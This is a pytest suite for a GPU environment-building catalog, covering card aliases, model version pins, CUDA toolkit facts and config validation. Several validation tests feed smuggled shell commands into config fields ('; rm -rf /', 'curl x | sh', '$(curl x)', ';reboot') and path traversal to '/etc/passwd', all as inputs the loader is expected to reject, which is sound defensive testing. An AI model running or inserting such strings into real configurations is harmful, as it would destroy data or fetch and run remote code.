import pytest

from envbuild import catalog
from envbuild.errors import BadInput, CatalogError

REQUIRED_CARDS = ["v100", "t4", "a10", "a30", "a100", "a800", "a40", "l4", "l20", "l40s",
                  "rtx3090", "rtx4090", "h20", "h100", "h800", "h200", "b200", "b300", "rtx5090", "rtxpro6000"]


def test_catalog_has_models_and_cards(cat):
    assert {"maptr", "sparsedrive", "qcnet", "gaussianformer"} <= set(cat.models)
    assert set(REQUIRED_CARDS) <= set(cat.cards)


@pytest.mark.parametrize("name,expected", [
    ("A100-80G", "a100"), ("4090", "rtx4090"), ("RTX 4090", "rtx4090"), ("NVIDIA H20", "h20"),
    ("h200", "h200"), ("GeForce RTX 3090", "rtx3090"), ("l40s", "l40s"), ("3090", "rtx3090"),
    ("GB200", "b200"), ("gb300", "b300"), ("5090", "rtx5090"), ("NVIDIA GeForce RTX 5090", "rtx5090"),
    ("rtx-pro-6000", "rtxpro6000"), ("NVIDIA RTX PRO 6000 Blackwell Server Edition", "rtxpro6000"),
    ("h100-sxm5", "h100"),
])
def test_card_names_and_aliases(cat, name, expected):
    assert cat.card(name).id == expected


def test_unknown_card_suggests_close_names(cat):
    with pytest.raises(BadInput) as exc:
        cat.card("h2")
    assert "h20" in exc.value.hint


def test_upstream_pins_follow_the_repos(cat):
    maptr = cat.model("maptr")
    assert (maptr.torch, maptr.cuda, maptr.packages["mmcv-full"]) == ("1.9.1", "11.1", "1.4.0")
    assert maptr.vendored["mmdet3d"][0] == "0.17.2"
    assert maptr.train.local_rank_arg == "--local_rank"
    sd = cat.model("sparsedrive")
    assert (sd.torch, sd.cuda, sd.packages["flash-attn"]) == ("1.13.0", "11.6", "2.3.2")
    qc = cat.model("qcnet")
    assert "mmdet3d" not in qc.packages and qc.train.launcher == "lightning"
    gf = cat.model("gaussianformer")
    assert gf.packages["mmcv"] == "2.0.1" and gf.train.launcher == "mp.spawn"


def test_card_facts(cat):
    assert cat.card("h20").cc == "9.0" and cat.card("l20").cc == "8.9"
    assert cat.card("rtx4090").p2p is False and cat.card("a100").p2p is True


def _edit(path, old, new):
    text = path.read_text()
    assert old in text
    path.write_text(text.replace(old, new, 1))


@pytest.mark.parametrize("file,old,new,key", [
    ("cards.toml", 'cc = "8.0"', 'cc = "eight"', "cards.a30.cc"),
    ("cards.toml", "p2p = true", 'p2p = "yes"', "cards.v100.p2p"),
    ("models/maptr.toml", '"mmcv-full" = "1.4.0"', '"mmcv-full" = "1.4.0\\nRUN curl evil"', "mmcv-full"),
    ("models/maptr.toml", '"mmcv-full" = "1.4.0"', '"mmcv-full" = "1.4.0; rm -rf /"', "mmcv-full"),
    ("models/maptr.toml", 'build = "python setup.py develop"', 'build = "python setup.py develop && curl x | sh"', "extensions[0].build"),
    ("models/maptr.toml", 'path = "mmdetection3d"\nbuild', 'path = "../../etc"\nbuild', "extensions[0].path"),
    ("models/maptr.toml", 'launcher = "torch.distributed.launch"', 'launcher = "deepspeed"', "train.launcher"),
    ("models/maptr.toml", 'version = "1.9.1"', 'version = "1.9.7"', "torch.version"),
    ("models/maptr.toml", 'commit = "a6872d8d9670bde17b4b01560f1221f88b443d55"', 'commit = "main"', "model.commit"),
    ("toolchains/cuda.toml", "max_gcc = 10", 'max_gcc = "10"', "cuda.11.1.max_gcc"),
    ("toolchains/torch.toml", 'pypi = "10.2"', 'pypi = "9.9"', "pypi"),
    ("toolchains/torch.toml", 'compile_python_max = "3.10"', 'compile_python_max = "yes"', "compile_python_max"),
    ("models/sparsedrive.toml", '"runner.max_iters={steps}"', '"runner.max_iters={steps};reboot"', "train.steps_args"),
    ("models/sparsedrive.toml", '"runner.max_iters={steps}"', '"{os.system}"', "train.steps_args"),
    ("models/maptr.toml", "tkinter = ", "curses = ", "stdlib_modules.curses"),
    ("toolchains/packages.toml", 'layers_clash_from = "1.4.6"', 'layers_clash_from = "soon"', "layers_clash_from"),
])
def test_malformed_entry_names_file_key_reason(matrices_copy, file, old, new, key):
    _edit(matrices_copy / file, old, new)
    with pytest.raises(CatalogError) as exc:
        catalog.load(matrices_copy)
    msg = exc.value.message
    assert file.split("/")[-1] in msg and key in msg, msg


def test_broken_toml_is_reported_with_file(matrices_copy):
    (matrices_copy / "cards.toml").write_text("[cards.x\n")
    with pytest.raises(CatalogError, match="cards.toml.*not valid TOML"):
        catalog.load(matrices_copy)


def test_adding_a_card_is_one_entry(matrices_copy):
    with open(matrices_copy / "cards.toml", "a") as fh:
        fh.write('\n[cards.rtx6000ada]\nname = "NVIDIA RTX 6000 Ada"\ncc = "8.9"\nmemory_gb = 48\n'
                 'p2p = true\naliases = ["6000ada"]\n')
    cat = catalog.load(matrices_copy)
    assert cat.card("6000ADA").cc == "8.9"


def test_adding_a_model_is_one_file(matrices_copy):
    text = (matrices_copy / "models" / "qcnet.toml").read_text().replace('name = "qcnet"', 'name = "qcnet2"')
    (matrices_copy / "models" / "qcnet2.toml").write_text(text)
    cat = catalog.load(matrices_copy)
    assert cat.model("QCNet2").torch == "2.0.1"


def test_construct_recipe_is_validated(matrices_copy):
    from envbuild.errors import CatalogError
    path = matrices_copy / "models" / "qcnet.toml"
    text = path.read_text()
    for old, new, says in (('kind = "argparse"', 'kind = "exec"', "is not one of argparse"),
                           ('module = "predictors"', 'module = "predictors; import os"', "invalid value"),
                           ('"--dataset", "argoverse_v2"', '"--dataset", "$(curl x)"', "invalid entry")):
        path.write_text(text.replace(old, new))
        with pytest.raises(CatalogError, match=says):
            catalog.load(matrices_copy)
    path.write_text(text)
    gf = matrices_copy / "models" / "gaussianformer.toml"
    gf_text = gf.read_text()
    for old, new, says in (('builder = "mmseg.models.build_segmentor"', 'builder = "mmseg.models.build_segmentor()"', "invalid value"),
                           ('config = "config/nuscenes_gs25600_solid.py"\nloader', 'config = "../../etc/passwd"\nloader', "construct.config: invalid value"),
                           ('imports = ["model"]', 'imports = ["model"]\nargs_hook = "add_args"', "not a field of construct kind 'config'"),
                           ('loader = "mmengine.Config.fromfile"\n', '', "loader: missing")):
        gf.write_text(gf_text.replace(old, new))
        with pytest.raises(CatalogError, match=says):
            catalog.load(matrices_copy)
    gf.write_text(gf_text)
    assert catalog.load(matrices_copy).model("gaussianformer").construct.to_dict() == {
        "kind": "config", "config": "config/nuscenes_gs25600_solid.py", "loader": "mmengine.Config.fromfile",
        "builder": "mmseg.models.build_segmentor", "imports": ("model",)}
    plan_construct = catalog.load(matrices_copy).model("qcnet").construct
    assert plan_construct.object == "QCNet" and "--num_recurrent_steps" in plan_construct.args


def test_the_plan_carries_the_construct_recipe_to_the_image(cat):
    from envbuild.resolve import resolve
    plan = resolve(cat, "qcnet", "a800")
    assert plan.to_dict()["construct"]["args_hook"] == "add_model_specific_args"
    sd = resolve(cat, "sparsedrive", "a800").to_dict()["construct"]
    assert sd["builder"] == "mmdet.models.build_detector" and "data/kmeans/kmeans_det_900.npy=900x11" in sd["arrays"]


def test_construct_arrays_are_validated(matrices_copy):
    from envbuild.errors import CatalogError
    path = matrices_copy / "models" / "sparsedrive.toml"
    text = path.read_text()
    for new, says in (('"data/kmeans/kmeans_det_900.npy=900x11"', None),
                      ('"data/../../etc/x.npy=1"', "must stay inside the repository"),
                      ('"data/k.npy=0x11"', "invalid entry"),
                      ('"data/k.txt=9"', "invalid entry"),
                      ('"data/k.npy=9; rm -rf /"', "invalid entry")):
        path.write_text(text.replace('"data/kmeans/kmeans_det_900.npy=900x11"', new))
        if says is None:
            assert catalog.load(matrices_copy).model("sparsedrive").construct.arrays[0] == "data/kmeans/kmeans_det_900.npy=900x11"
            continue
        with pytest.raises(CatalogError, match=says):
            catalog.load(matrices_copy)


def test_blackwell_cards(cat):
    from envbuild.incontainer.archrules import code_name, extension_arch, union_arch_list
    facts = {c: (cat.card(c).cc, cat.card(c).memory_gb, cat.card(c).p2p) for c in ("b200", "b300", "rtx5090", "rtxpro6000")}
    assert facts == {"b200": ("10.0", 180, True), "b300": ("10.3", 288, True),
                     "rtx5090": ("12.0", 32, False), "rtxpro6000": ("12.0", 96, True)}
    assert code_name("10.3") == "sm_103" and code_name("12.0+PTX") == "compute_120"
    assert union_arch_list(["9.0", "12.0", "10.3", "10.0+PTX"]) == "9.0;10.0+PTX;10.3;12.0"
    # nvcc 12.9 and 13.x emit sm_103 natively; 12.8 reaches B300 through sm_101 SASS
    assert extension_arch("10.3", cat.toolkit("13.0").archs, "12.1")[0] == "10.3"
    assert extension_arch("10.3", cat.toolkit("12.8").archs, "12.1")[0] == "10.1"
    assert extension_arch("12.0", cat.toolkit("13.1").archs, "12.1")[0] == "12.0"


def test_cuda_13_toolkits_are_measured(cat):
    tk = cat.toolkit("13.0")
    assert tk.archs[0] == "7.5" and "7.0" not in tk.archs and {"10.3", "11.0", "12.1"} <= set(tk.archs)
    assert tk.max_gcc == 15 and "20.04" not in tk.ubuntu
    assert {"10.3", "12.1"} <= set(cat.toolkit("12.9").archs) and "10.1" in cat.toolkit("12.8").archs


def test_measured_releases_carry_their_own_gpu_code(cat):
    measured = [r for r in cat.torch.values() if r.sass]
    assert len(measured) >= 10
    for rel in measured:
        sass, ptx = cat.wheel_code(rel, rel.pypi)
        assert (sass, ptx) == (rel.sass, rel.ptx)
    newest = cat.torch[cat.torch_versions()[-1]]
    assert newest.pypi.startswith("13.") and "10.0" in newest.sass and "12.0" in newest.sass + newest.ptx


@pytest.mark.parametrize("field,value,reason", [
    ("sass", '["sm_90"]', "invalid entry"),
    ("ptx", '["12.0"]', "without the SASS"),
    ("ptx", '["12.0a"]', "invalid entry"),
    ("sass", "[]", "not a measurement"),
    ("sass", '["9.0", "9.0"]', "listed twice"),
])
def test_measured_code_is_validated(matrices_copy, field, value, reason):
    _edit(matrices_copy / "toolchains" / "torch.toml", '[torch."2.7.1"]\n', f'[torch."2.7.1"]\n{field} = {value}\n')
    with pytest.raises(CatalogError) as exc:
        catalog.load(matrices_copy)
    msg = exc.value.message
    assert "torch.toml" in msg and f"torch.2.7.1.{field}" in msg and reason in msg, msg


def test_a_measured_pypi_build_needs_no_wheel_archs_entry(matrices_copy):
    torch_toml = matrices_copy / "toolchains" / "torch.toml"
    _edit(torch_toml, 'pypi = "12.6"\ncxx = 17\next_max_arch = "12.0"', 'pypi = "12.7"\ncxx = 17\next_max_arch = "12.0"')
    with pytest.raises(CatalogError, match=r"torch\.2\.7\.1\.index.*no \[wheel_archs\] entry for CUDA 12\.7"):
        catalog.load(matrices_copy)
    _edit(torch_toml, '[torch."2.7.1"]\n', '[torch."2.7.1"]\nsass = ["9.0"]\nptx = ["9.0"]\n')
    cat = catalog.load(matrices_copy)
    assert cat.wheel_code(cat.torch["2.7.1"], "12.7") == (("9.0",), ("9.0",))
    assert cat.wheel_code(cat.torch["2.7.1"], "12.8") == (cat.wheel_archs["12.8"], ())
